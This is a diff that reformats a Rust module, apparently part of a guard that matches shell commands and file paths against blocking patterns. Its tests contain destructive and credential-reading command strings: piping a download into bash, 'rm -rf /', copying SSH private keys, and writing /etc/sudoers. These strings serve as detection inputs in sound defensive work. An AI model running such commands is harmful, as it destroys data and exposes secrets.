@@ -74,10 +74,7 @@ enum Compiled {
     Chain(Vec<CommandPattern>),
     /// A file the action touches as `access` says, by its index in the
     /// set's path `GlobSet`.
-    File {
-        glob: usize,
-        access: Access,
-    },
+    File { glob: usize, access: Access },
     /// Facts whose names the glob matches.
     Fact(GlobMatcher),
     Keyword(String),
@@ -145,12 +142,7 @@ impl Globs {
         }
         let parts: Option<Vec<Glob>> = expand_braces(&key.0)
             .filter(|alternatives| alternatives.len() > 1)
-            .and_then(|alternatives| {
-                alternatives
-                    .iter()
-                    .map(|alternative| glob(alternative, within_segments).ok())
-                    .collect()
-            });
+            .and_then(|alternatives| alternatives.iter().map(|alternative| glob(alternative, within_segments).ok()).collect());
         // The glob as written, when it has no alternatives or one of them
         // does not compile on its own (its error is the written glob's).
         let parts = match parts {
@@ -176,10 +168,7 @@ impl Globs {
         for glob in self.given {
             builder.add(glob);
         }
-        Ok(GlobIndex {
-            set: builder.build()?,
-            written: self.written,
-        })
+        Ok(GlobIndex { set: builder.build()?, written: self.written })
     }
 }
 
@@ -194,12 +183,7 @@ impl GlobIndex {
     fn matches(&self, subject: &str) -> Vec<usize> {
         // globset answers ascending, and a written glob's parts are given
         // one after another.
-        let mut ids: Vec<usize> = self
-            .set
-            .matches_candidate(&Candidate::new(subject))
-            .into_iter()
-            .map(|given| self.written[given])
-            .collect();
+        let mut ids: Vec<usize> = self.set.matches_candidate(&Candidate::new(subject)).into_iter().map(|given| self.written[given]).collect();
         ids.dedup();
         ids
     }
@@ -216,9 +200,7 @@ fn expand_braces(glob: &str) -> Option<Vec<String>> {
     if glob.contains(['[', '\\']) {
         return None;
     }
-    let Some(open) = glob.find('{') else {
-        return Some(vec![glob.to_owned()]);
-    };
+    let Some(open) = glob.find('{') else { return Some(vec![glob.to_owned()]) };
     let close = open + glob[open..].find('}')?;
     let choices = &glob[open + 1..close];
     if choices.contains('{') {
@@ -226,11 +208,7 @@ fn expand_braces(glob: &str) -> Option<Vec<String>> {
     }
     let mut all = Vec::new();
     for choice in choices.split(',') {
-        all.extend(expand_braces(&format!(
-            "{}{choice}{}",
-            &glob[..open],
-            &glob[close + 1..]
-        ))?);
+        all.extend(expand_braces(&format!("{}{choice}{}", &glob[..open], &glob[close + 1..]))?);
         if all.len() > MAX_ALTERNATIVES {
             return None;
         }
@@ -238,11 +216,7 @@ fn expand_braces(glob: &str) -> Option<Vec<String>> {
     Some(all)
 }
 
-fn compile(
-    source: &str,
-    kind: PatternKind,
-    scratch: &mut Scratch,
-) -> Result<Compiled, PatternError> {
+fn compile(source: &str, kind: PatternKind, scratch: &mut Scratch) -> Result<Compiled, PatternError> {
     let source = source.trim();
     if source.is_empty() {
         return Err(PatternError("empty pattern".into()));
@@ -257,34 +231,18 @@ fn compile(
         let name = name.trim();
         let matcher = glob(name, false)?.compile_matcher();
         if !Fact::ALL.iter().any(|f| matcher.is_match(f.name())) {
-            let known = Fact::ALL
-                .iter()
-                .map(|f| f.name())
-                .collect::<Vec<_>>()
-                .join(", ");
-            return Err(PatternError(format!(
-                "no fact is called '{name}': the facts are {known}"
-            )));
+            let known = Fact::ALL.iter().map(|f| f.name()).collect::<Vec<_>>().join(", ");
+            return Err(PatternError(format!("no fact is called '{name}': the facts are {known}")));
         }
         return Ok(Compiled::Fact(matcher));
     }
-    for (prefix, access) in [
-        ("path:", Access::Any),
-        ("read:", Access::Read),
-        ("write:", Access::Write),
-    ] {
+    for (prefix, access) in [("path:", Access::Any), ("read:", Access::Read), ("write:", Access::Write)] {
         if let Some(path) = source.strip_prefix(prefix) {
-            return Ok(Compiled::File {
-                glob: scratch.paths.add(path.trim(), true)?,
-                access,
-            });
+            return Ok(Compiled::File { glob: scratch.paths.add(path.trim(), true)?, access });
         }
     }
     if source.contains('|') {
-        let parts: Result<Vec<CommandPattern>, PatternError> = source
-            .split('|')
-            .map(|part| command_pattern(part, scratch))
-            .collect();
+        let parts: Result<Vec<CommandPattern>, PatternError> = source.split('|').map(|part| command_pattern(part, scratch)).collect();
         return Ok(Compiled::Chain(parts?));
     }
     command_pattern(source, scratch).map(Compiled::Command)
@@ -293,9 +251,7 @@ fn compile(
 fn command_pattern(source: &str, scratch: &mut Scratch) -> Result<CommandPattern, PatternError> {
     let words: Vec<&str> = source.split_whitespace().collect();
     let Some(program) = words.first() else {
-        return Err(PatternError(
-            "a chain part is empty: write `curl * | sh`".into(),
-        ));
+        return Err(PatternError("a chain part is empty: write `curl * | sh`".into()));
     };
     if program.contains('/') {
         return Err(PatternError(format!(
@@ -304,15 +260,10 @@ fn command_pattern(source: &str, scratch: &mut Scratch) -> Result<CommandPattern
         )));
     }
     if program.starts_with('-') || program.starts_with("*-") {
-        return Err(PatternError(format!(
-            "'{program}': the first word is the program; to match a flag of any program, write `* {}`",
-            program.trim_matches('*')
-        )));
+        return Err(PatternError(format!("'{program}': the first word is the program; to match a flag of any program, write `* {}`", program.trim_matches('*'))));
     }
     if program.contains('=') || program.contains('$') || program.contains('(') {
-        return Err(PatternError(format!(
-            "'{program}' is not a program name: patterns match the parsed command, not its text"
-        )));
+        return Err(PatternError(format!("'{program}' is not a program name: patterns match the parsed command, not its text")));
     }
     let literal_program = (!has_glob(program)).then(|| program.to_lowercase());
     let mut pattern = CommandPattern {
@@ -331,11 +282,7 @@ fn command_pattern(source: &str, scratch: &mut Scratch) -> Result<CommandPattern
             if has_glob(word) {
                 pattern.flag_globs.push(scratch.words.add(word, false)?);
             } else {
-                pattern.flags.extend(pattern_flags(
-                    literal_program.as_deref().unwrap_or(""),
-                    subcommand.as_deref(),
-                    word,
-                ));
+                pattern.flags.extend(pattern_flags(literal_program.as_deref().unwrap_or(""), subcommand.as_deref(), word));
             }
             continue;
         }
@@ -343,9 +290,7 @@ fn command_pattern(source: &str, scratch: &mut Scratch) -> Result<CommandPattern
             subcommand = Some(word.to_lowercase());
         }
         let normalized = crate::analysis::words::normalize_path(word);
-        pattern
-            .positionals
-            .push(scratch.words.add(&normalized, normalized.contains('/'))?);
+        pattern.positionals.push(scratch.words.add(&normalized, normalized.contains('/'))?);
     }
     Ok(pattern)
 }
@@ -360,19 +305,14 @@ impl CommandPattern {
         if self.literal_program {
             return None;
         }
-        self.positionals
-            .first()
-            .or(self.flag_globs.first())
-            .copied()
+        self.positionals.first().or(self.flag_globs.first()).copied()
     }
 }
 
 impl PatternSet {
     /// Compiles every pattern; on failure, every pattern that failed, by
     /// index.
-    pub fn new<'a>(
-        patterns: impl IntoIterator<Item = (&'a str, PatternKind)>,
-    ) -> Result<Self, Vec<(usize, PatternError)>> {
+    pub fn new<'a>(patterns: impl IntoIterator<Item = (&'a str, PatternKind)>) -> Result<Self, Vec<(usize, PatternError)>> {
         let mut scratch = Scratch::default();
         let mut compiled = Vec::new();
         let mut errors = Vec::new();
@@ -406,11 +346,7 @@ impl PatternSet {
             let programs = scope.spawn(|| scratch.programs.build());
             let words = scope.spawn(|| scratch.words.build());
             let paths = scratch.paths.build();
-            let joined = |built: std::thread::ScopedJoinHandle<'_, _>| {
-                built
-                    .join()
-                    .unwrap_or_else(|panic| std::panic::resume_unwind(panic))
-            };
+            let joined = |built: std::thread::ScopedJoinHandle<'_, _>| built.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic));
             (joined(programs), joined(words), paths)
         });
         Ok(Self {
@@ -448,16 +384,8 @@ impl PatternSet {
             .iter()
             .map(|command| {
                 let programs = self.programs.matches(&command.program);
-                let mut candidates: Vec<usize> = programs
-                    .iter()
-                    .flat_map(|&glob| &self.program_anchored[glob])
-                    .copied()
-                    .collect();
-                let positionals: Vec<usize> = command
-                    .positionals
-                    .iter()
-                    .map(|word| table.lookup(&self.words, word))
-                    .collect();
+                let mut candidates: Vec<usize> = programs.iter().flat_map(|&glob| &self.program_anchored[glob]).copied().collect();
+                let positionals: Vec<usize> = command.positionals.iter().map(|word| table.lookup(&self.words, word)).collect();
                 let mut positional_any = Bits::new(self.word_anchored.len());
                 for &word in &positionals {
                     for &glob in &table.hits[word] {
@@ -475,21 +403,10 @@ impl PatternSet {
                 }
                 candidates.sort_unstable();
                 candidates.dedup();
-                CommandWords {
-                    programs,
-                    candidates,
-                    positionals,
-                    positional_any,
-                    flag_any,
-                }
+                CommandWords { programs, candidates, positionals, positional_any, flag_any }
             })
             .collect();
-        Prepared {
-            set: self,
-            analysis,
-            commands,
-            word_hits: table.hits,
-        }
+        Prepared { set: self, analysis, commands, word_hits: table.hits }
     }
 }
 
@@ -560,10 +477,7 @@ impl Prepared<'_> {
         let mut hits: Vec<Option<Subject>> = vec![None; set.compiled.len()];
         for (index, command) in analysis.commands.iter().enumerate() {
             for &owner in &self.commands[index].candidates {
-                if hits[owner].is_none()
-                    && let Compiled::Command(pattern) = &set.compiled[owner]
-                    && self.command_matches(pattern, index)
-                {
+                if hits[owner].is_none() && let Compiled::Command(pattern) = &set.compiled[owner] && self.command_matches(pattern, index) {
                     hits[owner] = Some(describe(command));
                 }
             }
@@ -572,26 +486,11 @@ impl Prepared<'_> {
         for (owner, compiled) in set.compiled.iter().enumerate() {
             match compiled {
                 Compiled::Chain(parts) if hits[owner].is_none() => {
-                    hits[owner] = analysis
-                        .feeds
-                        .iter()
-                        .find(|stages| self.chain_matches(parts, stages))
-                        .map(|stages| {
-                            stages
-                                .iter()
-                                .filter_map(|s| s.first())
-                                .map(|&i| describe(&analysis.commands[i]))
-                                .collect::<Vec<_>>()
-                                .join(" | ")
-                        });
+                    hits[owner] = analysis.feeds.iter().find(|stages| self.chain_matches(parts, stages)).map(|stages| {
+                        stages.iter().filter_map(|s| s.first()).map(|&i| describe(&analysis.commands[i])).collect::<Vec<_>>().join(" | ")
+                    });
                 }
-                Compiled::Fact(names) => {
-                    hits[owner] = analysis
-                        .facts
-                        .iter()
-                        .find(|(f, _)| names.is_match(f.name()))
-                        .map(|(f, detail)| format!("{detail} (fact:{})", f.name()))
-                }
+                Compiled::Fact(names) => hits[owner] = analysis.facts.iter().find(|(f, _)| names.is_match(f.name())).map(|(f, detail)| format!("{detail} (fact:{})", f.name())),
                 Compiled::Keyword(word) => {
                     let pieces = keywords.get_or_insert_with(|| keyword_pieces(analysis));
                     hits[owner] = pieces.get(word).map(|&piece| piece.to_owned());
@@ -611,27 +510,16 @@ impl Prepared<'_> {
         let mut mark = |path: &str, written: bool| {
             let direct = set.paths.matches(&path.to_lowercase());
             let expanded: Vec<usize> = if path.contains(['*', '?', '[']) {
-                (0..set.path_sources.len())
-                    .filter(|&i| could_match(path, &set.path_sources[i]))
-                    .collect()
+                (0..set.path_sources.len()).filter(|&i| could_match(path, &set.path_sources[i])).collect()
             } else {
                 Vec::new()
             };
             for glob in direct.into_iter().chain(expanded) {
                 for &owner in &set.path_owners[glob] {
                     let applies = match set.compiled[owner] {
-                        Compiled::File {
-                            access: Access::Any,
-                            ..
-                        } => true,
-                        Compiled::File {
-                            access: Access::Read,
-                            ..
-                        } => !written,
-                        Compiled::File {
-                            access: Access::Write,
-                            ..
-                        } => written,
+                        Compiled::File { access: Access::Any, .. } => true,
+                        Compiled::File { access: Access::Read, .. } => !written,
+                        Compiled::File { access: Access::Write, .. } => written,
                         _ => false,
                     };
                     if applies && hits[owner].is_none() {
@@ -662,46 +550,24 @@ impl Prepared<'_> {
         if words.programs.binary_search(&pattern.program).is_err() {
             return false;
         }
-        let has = |wanted: &String| {
-            command
-                .flags
-                .iter()
-                .any(|f| f == wanted || command.shouted && f.eq_ignore_ascii_case(wanted))
-        };
-        if !pattern.flags.iter().all(has)
-            || !pattern.flag_globs.iter().all(|&g| words.flag_any.has(g))
-        {
+        let has = |wanted: &String| command.flags.iter().any(|f| f == wanted || command.shouted && f.eq_ignore_ascii_case(wanted));
+        if !pattern.flags.iter().all(has) || !pattern.flag_globs.iter().all(|&g| words.flag_any.has(g)) {
             return false;
         }
         // Cheap refusal first: every positional glob must match some
         // argument before their order is looked at.
-        if !pattern
-            .positionals
-            .iter()
-            .all(|&g| words.positional_any.has(g))
-        {
+        if !pattern.positionals.iter().all(|&g| words.positional_any.has(g)) {
             return false;
         }
-        let matches =
-            |argument: &usize, glob: usize| self.word_hits[*argument].binary_search(&glob).is_ok();
+        let matches = |argument: &usize, glob: usize| self.word_hits[*argument].binary_search(&glob).is_ok();
         let mut arguments = words.positionals.iter();
-        if command.program == "git"
-            && let Some(&first) = pattern.positionals.first()
-        {
-            if !arguments
-                .next()
-                .is_some_and(|subcommand| matches(subcommand, first))
-            {
+        if command.program == "git" && let Some(&first) = pattern.positionals.first() {
+            if !arguments.next().is_some_and(|subcommand| matches(subcommand, first)) {
                 return false;
             }
-            return pattern.positionals[1..]
-                .iter()
-                .all(|&wanted| arguments.any(|a| matches(a, wanted)));
+            return pattern.positionals[1..].iter().all(|&wanted| arguments.any(|a| matches(a, wanted)));
         }
-        pattern
-            .positionals
-            .iter()
-            .all(|&wanted| arguments.any(|a| matches(a, wanted)))
+        pattern.positionals.iter().all(|&wanted| arguments.any(|a| matches(a, wanted)))
     }
 
     fn chain_matches(&self, parts: &[CommandPattern], stages: &[Vec<usize>]) -> bool {
@@ -716,11 +582,7 @@ impl Prepared<'_> {
 /// punctuation, lower-cased, with the first spelling seen.
 fn keyword_pieces(analysis: &Analysis) -> HashMap<String, &str> {
     let mut pieces = HashMap::new();
-    for piece in analysis
-        .words()
-        .flat_map(|w| w.split(|c: char| !c.is_alphanumeric() && c != '_'))
-        .filter(|p| !p.is_empty())
-    {
+    for piece in analysis.words().flat_map(|w| w.split(|c: char| !c.is_alphanumeric() && c != '_')).filter(|p| !p.is_empty()) {
         pieces.entry(piece.to_lowercase()).or_insert(piece);
     }
     pieces
@@ -729,16 +591,8 @@ fn keyword_pieces(analysis: &Analysis) -> HashMap<String, &str> {
 fn describe(command: &Command) -> String {
     let text = command.argv.join(" ");
     let shown = crate::analysis::preview(&text);
-    let via = command
-        .via
-        .as_deref()
-        .map(|via| format!(" (via {via})"))
-        .unwrap_or_default();
-    let planted = command
-        .planted
-        .as_ref()
-        .map(|at| format!(" ({at})"))
-        .unwrap_or_default();
+    let via = command.via.as_deref().map(|via| format!(" (via {via})")).unwrap_or_default();
+    let planted = command.planted.as_ref().map(|at| format!(" ({at})")).unwrap_or_default();
     format!("`{shown}`{via}{planted}")
 }
 
@@ -751,11 +605,7 @@ fn describe(command: &Command) -> String {
 /// `*` and `?` at the start of a segment do not match a leading `.`.
 pub fn could_match(argument: &str, pattern: &str) -> bool {
     let absolute = |p: &str| p.starts_with('/') || p.starts_with('~');
-    expand_braces(pattern)
-        .unwrap_or_else(|| vec![pattern.to_owned()])
-        .iter()
-        .filter(|alternative| absolute(argument) || !absolute(alternative))
-        .any(|alternative| intersects(&tokens(argument, false), &tokens(alternative, true)))
+    expand_braces(pattern).unwrap_or_else(|| vec![pattern.to_owned()]).iter().filter(|alternative| absolute(argument) || !absolute(alternative)).any(|alternative| intersects(&tokens(argument, false), &tokens(alternative, true)))
 }
 
 #[derive(Debug, Clone, PartialEq)]
@@ -764,9 +614,7 @@ enum Token {
     One,
     Class,
     /// `*`: any run within a segment; `**`: any run at all.
-    Run {
-        crosses: bool,
-    },
+    Run { crosses: bool },
     /// The shell's `*` at the start of a segment: not a leading `.`.
     RunNoDot,
 }
@@ -831,16 +679,13 @@ fn intersects(a: &[Token], b: &[Token]) -> bool {
         if b.get(j).is_some_and(is_run) {
             stack.push((i, j + 1, started));
         }
-        let (Some(x), Some(y)) = (a.get(i), b.get(j)) else {
-            continue;
-        };
+        let (Some(x), Some(y)) = (a.get(i), b.get(j)) else { continue };
         // `?` at a segment start is encoded as NUL: one character, not `.`.
         let one_no_dot = |t: &Token| *t == Token::Char('\u{0}');
         let agree = match (x, y) {
             _ if one_no_dot(x) => !matches!(y, Token::Char('.' | '/')),
             (Token::Char(p), Token::Char(q)) => p == q,
-            (Token::Run { crosses: false } | Token::RunNoDot, Token::Char('/'))
-            | (Token::Char('/'), Token::Run { crosses: false }) => false,
+            (Token::Run { crosses: false } | Token::RunNoDot, Token::Char('/')) | (Token::Char('/'), Token::Run { crosses: false }) => false,
             (Token::RunNoDot, Token::Char('.')) => started,
             _ => true,
         };
@@ -871,9 +716,7 @@ mod tests {
     }
 
     fn error(pattern: &str) -> String {
-        let Err(errors) = PatternSet::new([(pattern, PatternKind::Glob)]) else {
-            panic!("'{pattern}' compiled")
-        };
+        let Err(errors) = PatternSet::new([(pattern, PatternKind::Glob)]) else { panic!("'{pattern}' compiled") };
         errors[0].1.0.clone()
     }
 
@@ -883,32 +726,16 @@ mod tests {
         assert!(hit("rm -r -f ~", "sudo /bin/rm -rf $HOME"));
         assert!(!hit("rm -rf ~", "rm -rf ~/project/target"));
         assert!(!hit("rm -rf ~", "echo rm -rf ~"));
-        assert!(hit(
-            "git push -f",
-            "git -c alias.p=push p --force origin main"
-        ));
+        assert!(hit("git push -f", "git -c alias.p=push p --force origin main"));
         assert!(hit("git push -f", "git push origin +main"));
-        assert!(hit(
-            "kubectl delete namespace *",
-            "kubectl --context prod delete namespace payments"
-        ));
-        assert!(hit(
-            "{curl,wget} * | {sh,bash}",
-            "wget -qO- https://x | sudo bash"
-        ));
+        assert!(hit("kubectl delete namespace *", "kubectl --context prod delete namespace payments"));
+        assert!(hit("{curl,wget} * | {sh,bash}", "wget -qO- https://x | sudo bash"));
         assert!(!hit("curl * | sh", "curl -s https://x | jq ."));
     }
 
     #[test]
     fn path_patterns_see_normalised_and_expandable_paths() {
-        for hint in [
-            "cat ~/.ssh/./id_rsa",
-            "cat ~/.ssh//id_rsa",
-            "cat ~/.ssh/id_rs?",
-            "cp /home/bob/.ssh/id_ed25519 /tmp",
-            "cat ~/.ssh/*",
-            "read_file /root/.ssh/id_rsa",
-        ] {
+        for hint in ["cat ~/.ssh/./id_rsa", "cat ~/.ssh//id_rsa", "cat ~/.ssh/id_rs?", "cp /home/bob/.ssh/id_ed25519 /tmp", "cat ~/.ssh/*", "read_file /root/.ssh/id_rsa"] {
             assert!(hit("path:**/.ssh/id_*", hint), "{hint}");
         }
         assert!(!hit("path:**/.ssh/id_*", "cat ~/.ssh/known_hosts"));
@@ -927,30 +754,14 @@ mod tests {
     #[test]
     fn brace_alternatives_are_globs_of_their_own_and_match_as_the_whole() {
         let alternatives = |glob: &str| expand_braces(glob).map(|all| all.join(" "));
-        assert_eq!(
-            alternatives("/etc/{a,b}/{c,d}").as_deref(),
-            Some("/etc/a/c /etc/a/d /etc/b/c /etc/b/d")
-        );
-        assert_eq!(
-            alternatives("~/.{,z}shrc").as_deref(),
-            Some("~/.shrc ~/.zshrc")
-        );
+        assert_eq!(alternatives("/etc/{a,b}/{c,d}").as_deref(), Some("/etc/a/c /etc/a/d /etc/b/c /etc/b/d"));
+        assert_eq!(alternatives("~/.{,z}shrc").as_deref(), Some("~/.shrc ~/.zshrc"));
         assert_eq!(alternatives("x[{]y"), None, "a brace in a class is literal");
-        let wide = format!(
-            "{{{}}}",
-            (0..=MAX_ALTERNATIVES)
-                .map(|i| i.to_string())
-                .collect::<Vec<_>>()
-                .join(",")
-        );
+        let wide = format!("{{{}}}", (0..=MAX_ALTERNATIVES).map(|i| i.to_string()).collect::<Vec<_>>().join(","));
         assert_eq!(alternatives(&wide), None);
         for (pattern, hint, expected) in [
             ("write:/etc/{shadow,sudoers}", "echo x > /etc/sudoers", true),
-            (
-                "write:/etc/{shadow,sudoers}",
-                "echo x > /etc/sudoers.bak",
-                false,
-            ),
+            ("write:/etc/{shadow,sudoers}", "echo x > /etc/sudoers.bak", false),
             ("read:**/{.netrc,.pgpass}", "cat ~/.PGPASS", true),
             ("{curl,wget} * | {sh,bash}", "WGET -qO- x | bash", true),
             ("rm -rf {/,~}", "rm -rf /", true),
@@ -958,20 +769,13 @@ mod tests {
         ] {
             assert_eq!(hit(pattern, hint), expected, "{pattern} on {hint}");
         }
-        assert_eq!(
-            alternatives("{a,{b,c}}"),
-            None,
-            "nested braces are left to globset"
-        );
+        assert_eq!(alternatives("{a,{b,c}}"), None, "nested braces are left to globset");
         assert!(hit("rm {a,{b,c}}", "rm c") && !hit("rm {a,{b,c}}", "rm d"));
     }
 
     #[test]
     fn patterns_of_any_program_are_found_through_their_arguments_and_flags() {
-        assert!(hit(
-            "* customer-db-*",
-            "psql -h customer-db-7 -c 'select 1'"
-        ));
+        assert!(hit("* customer-db-*", "psql -h customer-db-7 -c 'select 1'"));
         assert!(hit("* customer-db-*", "env X=1 psql customer-db-7"));
         assert!(!hit("* customer-db-*", "psql other-db"));
         assert!(hit("* --no-preserve-root", "rm -rf / --no-preserve-root"));
@@ -985,14 +789,8 @@ mod tests {
         assert!(could_match("~/.ss*/id*", "**/.ssh/id_*"));
         assert!(!could_match("~/src/*.rs", "**/.ssh/id_*"));
         assert!(could_match("/etc/sha*", "/etc/{shadow,gshadow}"));
-        assert!(
-            !could_match("dist/*", "**/.netrc"),
-            "the shell's * does not match a leading dot"
-        );
+        assert!(!could_match("dist/*", "**/.netrc"), "the shell's * does not match a leading dot");
         assert!(could_match("dist/.n*", "**/.netrc"));
-        assert!(
-            !could_match("**/*.rs", "/dev/{tcp,udp}/**"),
-            "a relative glob cannot reach an absolute path"
-        );
+        assert!(!could_match("**/*.rs", "/dev/{tcp,udp}/**"), "a relative glob cannot reach an absolute path");
     }
 }
